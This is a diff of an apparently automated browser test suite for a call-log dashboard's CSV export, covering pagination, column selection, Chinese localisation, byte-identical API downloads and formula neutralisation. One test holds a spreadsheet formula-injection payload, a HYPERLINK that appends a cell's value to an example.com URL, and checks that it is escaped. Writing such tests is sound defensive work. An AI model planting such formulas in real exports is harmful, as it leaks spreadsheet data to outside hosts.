@@ -3,17 +3,23 @@ import { type Callboard, downloadedText, expect, test } from './callboard.ts'
 
 const TIME = /^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}\+08:00$/
 
-async function start({ page, exportDialog }: Callboard, rows: string, ...columns: string[]) {
+async function start(
+  { page, exportDialog, startExport }: Callboard,
+  rows: string,
+  ...columns: string[]
+) {
   await page.getByRole('button', { name: 'Export' }).click()
   await exportDialog.getByRole('radio', { name: rows }).check()
   for (const column of columns)
     await exportDialog.getByRole('checkbox', { name: column, exact: true }).check()
   const download = page.waitForEvent('download')
-  await exportDialog.getByRole('button', { name: 'Start export' }).click()
+  await startExport.click()
   return download
 }
 
-test('all matching calls, over several pages: every call once, as shown', async ({ callboard }) => {
+test('all matching calls, over several pages: every call once, in the order of the list', async ({
+  callboard,
+}) => {
   const { exportDialog, status } = callboard
   await callboard.open('?range=yesterday&size=10')
   const total = (/of ([\d,]+) calls/.exec(await status.innerText()) ?? [])[1] ?? ''
@@ -21,7 +27,7 @@ test('all matching calls, over several pages: every call once, as shown', async 
   expect(file.suggestedFilename()).toMatch(
     /^calls_\d{4}-\d\d-\d\d_\d{4}-\d\d-\d\d_Asia-Shanghai\.csv$/,
   )
-  await expect(exportDialog.getByRole('status')).toHaveText(`Exported ${total} of ${total} calls`)
+  await expect(exportDialog.getByRole('status')).toHaveText(`Download started: ${total} calls`)
   const text = await downloadedText(file)
   expect(text.startsWith('\uFEFF')).toBe(true)
   const [head, ...rows] = parse(text, { bom: true })
@@ -68,7 +74,9 @@ test('this page: the calls and columns in sight, and no others', async ({ callbo
   expect(head).toEqual(['Caller', 'Hangup reason'])
   expect(cells.map((row) => row[1])).toEqual(shown.map((row) => row[1]?.trim()))
   expect(cells).toHaveLength(10)
-  await expect(page.getByRole('dialog').getByRole('status')).toHaveText('Exported 10 of 10 calls')
+  await expect(page.getByRole('dialog').getByRole('status')).toHaveText(
+    'Download started: 10 calls',
+  )
 })
 
 test('a filtered view in Chinese is exported in Chinese words', async ({ callboard }) => {
@@ -77,7 +85,7 @@ test('a filtered view in Chinese is exported in Chinese words', async ({ callboa
   await page.getByRole('combobox', { name: 'Language' }).selectOption('简体中文')
   await page.getByRole('button', { name: '导出' }).click()
   const download = page.waitForEvent('download')
-  await page.getByRole('button', { name: '开始导出' }).click()
+  await page.getByRole('button', { name: /^(开始导出|下载)$/ }).click()
   const [head, ...rows] = parse(await downloadedText(await download), { bom: true })
   expect(head?.slice(0, 3)).toEqual(['开始时间', '主叫', '被叫'])
   expect(new Set(rows.map((row) => `${row[5]} ${row[7]}`))).toEqual(new Set(['呼入 呼入被挂断']))
@@ -98,4 +106,13 @@ test('markup comes back as the text it was, and nothing of it would run', async 
   expect(cells).toContain('x'.repeat(1000))
   expect(cells).toContain('\'=HYPERLINK("http://example.com/?"&A1,"open")')
   expect(cells.filter((cell) => /^\s*[=+\-@＝＋－＠]/u.test(cell))).toEqual([])
+})
+
+test('curl receives the same bytes as the page', async ({ callboard, request }) => {
+  await callboard.open('?range=yesterday&type=2')
+  const file = await start(callboard, 'All matching calls')
+  const query = 'range=yesterday&type=2&format=csv&hold=600'
+  const answer = await request.get(`/api/export?${query}`)
+  expect(answer.headers()['content-disposition']).toContain(file.suggestedFilename())
+  expect(await answer.text()).toBe(await downloadedText(file))
 })
